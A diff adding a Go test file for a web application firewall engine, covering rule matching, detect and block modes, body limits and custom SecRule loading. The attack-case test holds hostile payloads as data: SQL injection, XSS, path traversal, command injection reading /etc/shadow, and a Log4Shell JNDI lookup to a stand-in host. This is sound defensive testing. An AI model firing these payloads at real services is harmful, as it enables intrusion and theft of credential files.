@@ -0,0 +1,234 @@
+package waf
+
+import (
+	"io"
+	"net/http"
+	"net/http/httptest"
+	"net/url"
+	"os"
+	"path/filepath"
+	"slices"
+	"strings"
+	"testing"
+)
+
+func mustLoad(t *testing.T, cfg Config) *Engine {
+	t.Helper()
+	e, err := Load(cfg)
+	if err != nil {
+		t.Fatalf("Load: %v", err)
+	}
+	return e
+}
+
+func TestBaseRules_Attacks(t *testing.T) {
+	e := mustLoad(t, Config{Mode: ModeBlock})
+	for _, c := range []struct {
+		name string
+		req  func() *http.Request
+		id   int
+	}{
+		{"union select", query("id=1 UNION/**/SELECT password FROM users"), 942100},
+		{"tautology", query("user=admin' OR '1'='1"), 942110},
+		{"stacked query", query("id=1; DROP TABLE users"), 942130},
+		{"sleep", query("id=1 AND sleep(5)"), 942160},
+		{"script tag", query("q=<script>alert(1)</script>"), 941100},
+		{"event handler", query("q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E"), 941110},
+		{"javascript uri", query("next=java%0Ascript:alert(1)"), 941120},
+		{"traversal", query("file=../../etc/passwd"), 930100},
+		{"encoded traversal", func() *http.Request {
+			return httptest.NewRequest("GET", "/static/%252e%252e/%252e%252e/etc/hosts", nil)
+		}, 930100},
+		{"os file", query("page=/etc/passwd"), 930120},
+		{"command injection", query("host=8.8.8.8;cat /etc/shadow"), 932100},
+		{"php wrapper", query("page=php://filter/resource=index"), 931130},
+		{"log4shell", header("User-Agent", "${jndi:ldap://evil/a}"), 944150},
+		{"scanner", header("User-Agent", "sqlmap/1.7"), 913100},
+		{"cookie xss", func() *http.Request {
+			r := httptest.NewRequest("GET", "/", nil)
+			r.AddCookie(&http.Cookie{Name: "pref", Value: "<script>x</script>"})
+			return r
+		}, 941100},
+		{"form body", body("application/x-www-form-urlencoded", "user=a&comment=<script>alert(1)</script>"), 941100},
+		{"json body", body("application/json", `{"filter":{"name":"x' or 'a'='a"}}`), 942110},
+	} {
+		res := e.Inspect(c.req())
+		if !res.Blocked || !slices.Contains(res.RuleIDs(), c.id) {
+			t.Errorf("%s: blocked %v, rules %v; want rule %d", c.name, res.Blocked, res.RuleIDs(), c.id)
+		}
+	}
+}
+
+func TestBaseRules_Benign(t *testing.T) {
+	e := mustLoad(t, Config{Mode: ModeBlock})
+	for _, req := range []func() *http.Request{
+		query("q=select a union rep&sort=name"),
+		query("q=O'Reilly books"),
+		query("q=tom & jerry"),
+		query("email=someone@example.com&next=/account/settings"),
+		query("search=where is 1 + 1 = 2"),
+		query("redirect=https://example.com/a/b?c=d"),
+		query("note=I'm going to update the docs; then deploy"),
+		query("title=Script writing 101"),
+		header("Referer", "https://www.example.com/search?q=cats"),
+		header("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36"),
+		body("application/json", `{"name":"Ann","tags":["a","b"],"count":3,"active":true}`),
+		body("application/x-www-form-urlencoded", "comment=Great+post%2C+thanks!&rating=5"),
+	} {
+		r := req()
+		if res := e.Inspect(r); len(res.Matches) > 0 {
+			t.Errorf("%s %s: rules %v matched", r.Method, r.URL, res.Matches)
+		}
+	}
+}
+
+func TestEngine_Wrap(t *testing.T) {
+	var got string
+	next := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		b, _ := io.ReadAll(r.Body)
+		got = string(b)
+	})
+	attack := "comment=" + url.QueryEscape("<script>alert(1)</script>")
+
+	block := mustLoad(t, Config{Mode: ModeBlock}).Wrap(next)
+	r, res := Track(body("application/x-www-form-urlencoded", attack)())
+	rec := httptest.NewRecorder()
+	block.ServeHTTP(rec, r)
+	if rec.Code != http.StatusForbidden || got != "" {
+		t.Errorf("block mode: status %d, handler got %q; want 403 and no handler", rec.Code, got)
+	}
+	if res.Action() != ModeBlock || !slices.Contains(res.RuleIDs(), 941100) {
+		t.Errorf("tracked result = %+v", res)
+	}
+
+	// Detect mode serves the request, and the handler gets the whole body.
+	detect := mustLoad(t, Config{Mode: ModeDetect}).Wrap(next)
+	r, res = Track(body("application/x-www-form-urlencoded", attack)())
+	rec = httptest.NewRecorder()
+	detect.ServeHTTP(rec, r)
+	if rec.Code != http.StatusOK || got != attack {
+		t.Errorf("detect mode: status %d, handler got %q", rec.Code, got)
+	}
+	if res.Action() != ModeDetect || res.Score < DefaultThreshold {
+		t.Errorf("tracked result = %+v", res)
+	}
+}
+
+func TestEngine_BodyLimit(t *testing.T) {
+	e := mustLoad(t, Config{Mode: ModeBlock, BodyLimit: 64})
+	// Only the first 64 bytes are inspected; the rest still reaches the
+	// handler.
+	payload := "a=" + strings.Repeat("x", 100) + "&b=" + url.QueryEscape("<script>")
+	r := body("application/x-www-form-urlencoded", payload)()
+	if res := e.Inspect(r); len(res.Matches) > 0 {
+		t.Errorf("matches past the body limit: %v", res.Matches)
+	}
+	if b, _ := io.ReadAll(r.Body); string(b) != payload {
+		t.Errorf("handler got %d bytes, want %d", len(b), len(payload))
+	}
+
+	// Uploads of other types aren't read.
+	r = body("application/octet-stream", "<script>alert(1)</script>")()
+	if res := e.Inspect(r); len(res.Matches) > 0 {
+		t.Errorf("octet-stream body inspected: %v", res.Matches)
+	}
+}
+
+func TestEngine_CustomRules(t *testing.T) {
+	dir := t.TempDir()
+	os.WriteFile(filepath.Join(dir, "10-app.conf"), []byte(`
+# Block the old admin path outright.
+SecRule REQUEST_FILENAME "@beginsWith /old-admin" "id:100001,msg:'Old admin',deny"
+SecRule ARGS:debug "@streq 1" \
+    "id:100002,msg:'Debug flag',severity:NOTICE"
+SecRule REQUEST_HEADERS:X-Api-Version "!@within v1 v2" "id:100003,severity:WARNING"
+SecRuleRemoveById 942100
+`), 0o644)
+	e := mustLoad(t, Config{Mode: ModeBlock, Rules: []string{filepath.Join(dir, "*.conf")}, ExcludeRules: []int{941100}})
+
+	if res := e.Inspect(httptest.NewRequest("GET", "/old-admin/users", nil)); !res.Blocked || res.Score != 5 {
+		t.Errorf("deny rule: %+v", res)
+	}
+	// Warnings and notices only block together.
+	if res := e.Inspect(query("debug=1")()); res.Blocked || res.Score != 2 {
+		t.Errorf("notice: %+v", res)
+	}
+	r := query("debug=1")()
+	r.Header.Set("X-Api-Version", "v3")
+	if res := e.Inspect(r); !res.Blocked || res.Score != 5 {
+		t.Errorf("notice and warning: %+v", res)
+	}
+	// Rules removed by SecRuleRemoveById and exclude_rules don't run.
+	for _, q := range []string{"id=1 UNION SELECT 1", "q=<script>x</script>"} {
+		if res := e.Inspect(query(q)()); slices.Contains(res.RuleIDs(), 942100) || slices.Contains(res.RuleIDs(), 941100) {
+			t.Errorf("%s: removed rule matched: %v", q, res.RuleIDs())
+		}
+	}
+
+	// Without the base rules only the custom ones run.
+	e = mustLoad(t, Config{Mode: ModeBlock, NoBaseRules: true, Rules: []string{filepath.Join(dir, "10-app.conf")}})
+	if n := len(e.Rules()); n != 3 {
+		t.Errorf("rules = %d, want 3", n)
+	}
+}
+
+func TestLoad_Errors(t *testing.T) {
+	dir := t.TempDir()
+	dup := filepath.Join(dir, "dup.conf")
+	os.WriteFile(dup, []byte(`SecRule ARGS "@rx x" "id:942100"`), 0o644)
+	bad := filepath.Join(dir, "bad.conf")
+	os.WriteFile(bad, []byte("SecRule ARGS \"@rx x\" \"id:1\"\nSecAction \"id:2\"\n"), 0o644)
+
+	for _, cfg := range []Config{
+		{Rules: []string{filepath.Join(dir, "missing.conf")}},
+		{Rules: []string{dup}},
+		{Rules: []string{bad}},
+	} {
+		if _, err := Load(cfg); err == nil {
+			t.Errorf("Load(%v): expected error", cfg.Rules)
+		}
+	}
+	if _, err := Load(Config{Rules: []string{bad}}); err == nil || !strings.Contains(err.Error(), "bad.conf:2") {
+		t.Errorf("error %v should name bad.conf:2", err)
+	}
+	if _, err := Load(Config{Rules: []string{filepath.Join(dir, "none-*.conf")}}); err != nil {
+		t.Errorf("glob matching nothing: %v", err)
+	}
+}
+
+func query(q string) func() *http.Request {
+	return func() *http.Request {
+		u := &url.URL{Path: "/", RawQuery: url.Values(mustParseQuery(q)).Encode()}
+		return httptest.NewRequest("GET", u.String(), nil)
+	}
+}
+
+// mustParseQuery parses q as raw values, so the test strings can be written
+// unescaped.
+func mustParseQuery(q string) map[string][]string {
+	vals := make(map[string][]string)
+	for _, kv := range strings.Split(q, "&") {
+		k, v, _ := strings.Cut(kv, "=")
+		if uv, err := url.QueryUnescape(v); err == nil && strings.Contains(v, "%") {
+			v = uv
+		}
+		vals[k] = append(vals[k], v)
+	}
+	return vals
+}
+
+func header(name, value string) func() *http.Request {
+	return func() *http.Request {
+		r := httptest.NewRequest("GET", "/", nil)
+		r.Header.Set(name, value)
+		return r
+	}
+}
+
+func body(contentType, b string) func() *http.Request {
+	return func() *http.Request {
+		r := httptest.NewRequest("POST", "/", strings.NewReader(b))
+		r.Header.Set("Content-Type", contentType)
+		return r
+	}
+}